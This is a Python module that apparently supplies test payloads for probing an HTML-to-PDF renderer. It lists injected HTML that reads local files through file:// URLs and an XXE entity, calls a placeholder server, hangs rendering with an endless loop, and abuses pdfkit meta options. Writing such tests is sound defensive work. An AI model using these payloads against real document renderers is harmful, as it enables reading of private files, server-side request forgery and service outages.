"""What somebody could type into a name to make the printer read files, call home or hang."""

from base64 import b64encode

# {file}: path of a planted secret; {url}: a listening server; {out}: a path that must not come into being.
PAYLOADS: dict[str, str] = {
    "iframe file": '<iframe src="file://{file}" width="400" height="300"></iframe>',
    "iframe http": '<iframe src="{url}/iframe" width="400" height="300"></iframe>',
    "img http": '<img src="{url}/img.png">',
    "img file": '<img src="file://{file}">',
    "img onerror": "<img src=\"data:,\" onerror=\"new Image().src='{url}/onerror'\">",
    "css import": '<style>@import url("{url}/import.css");</style>',
    "css background": '<div style="background:url({url}/bg.png)">x</div>',
    "css content file": '<style>p::before{{content:url("file://{file}")}}</style><p>x</p>',
    "font face": "<style>@font-face{{font-family:F;src:url('{url}/f.woff')}}b{{font-family:F}}</style><b>x</b>",
    "link css http": '<link rel="stylesheet" href="{url}/link.css">',
    "link css file": '<link rel="stylesheet" href="file://{file}">',
    "link attachment": '<link rel="attachment" href="file://{file}">',
    "a attachment": '<a rel="attachment" href="file://{file}">x</a>',
    "script reads file": (
        "<script>var x=new XMLHttpRequest();x.open('GET','file://{file}',false);x.send();"
        "document.write(x.responseText)</script>"
    ),
    "script calls home": "<script>var x=new XMLHttpRequest();x.open('GET','{url}/xhr',false);x.send()</script>",
    "script for ever": "<script>while(1){{}}</script>",
    "svg onload": "<svg onload=\"new Image().src='{url}/svg'\"></svg>",
    "svg image http": '<svg width="9" height="9"><image href="{url}/i" xlink:href="{url}/i"/></svg>',
    "svg use file": '<svg><use href="file://{file}#a" xlink:href="file://{file}#a"/></svg>',
    "object file": '<object data="file://{file}" type="text/html" width="400" height="300"></object>',
    "embed http": '<embed src="{url}/embed" type="text/html">',
    "video poster": '<video poster="{url}/poster.png" src="{url}/v.mp4"></video>',
    "input image": '<input type="image" src="{url}/input.png">',
    "base href": '<base href="{url}/"><img src="relative.png">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={url}/refresh">',
    "meta pdfkit file access": (
        '<meta name="pdfkit-enable-local-file-access" content="">'
        '<iframe src="file://{file}" width="400" height="300"></iframe>'
    ),
    "meta pdfkit cookie jar": '<meta name="pdfkit-cookie-jar" content="{out}">',
    "meta pdfkit post file": '<meta name="pdfkit-post-file" content="a {file}"><meta name="pdfkit-allow" content="/">',
    "nested data page": '<iframe src="data:text/html;base64,{nested}" width="400" height="300"></iframe>',
    "data svg with file": '<img src="data:image/svg+xml;base64,{svg}">',
}  # fmt: skip

_NESTED = '<iframe src="file://{file}" width="300" height="200"></iframe><img src="{url}/nested.png">'
_SVG = (
    '<!DOCTYPE svg [<!ENTITY e SYSTEM "file://{file}">]><svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="90"><text y="20">&e;</text>'
    '<image xlink:href="{url}/inner.png" width="9" height="9"/></svg>'
)


def filled(name: str, *, file: str, url: str, out: str) -> str:
    """Return a payload aimed at this file, this server and this path."""
    nested, svg = (b64encode(text.format(file=file, url=url).encode()).decode() for text in (_NESTED, _SVG))
    return PAYLOADS[name].format(file=file, url=url, out=out, nested=nested, svg=svg)
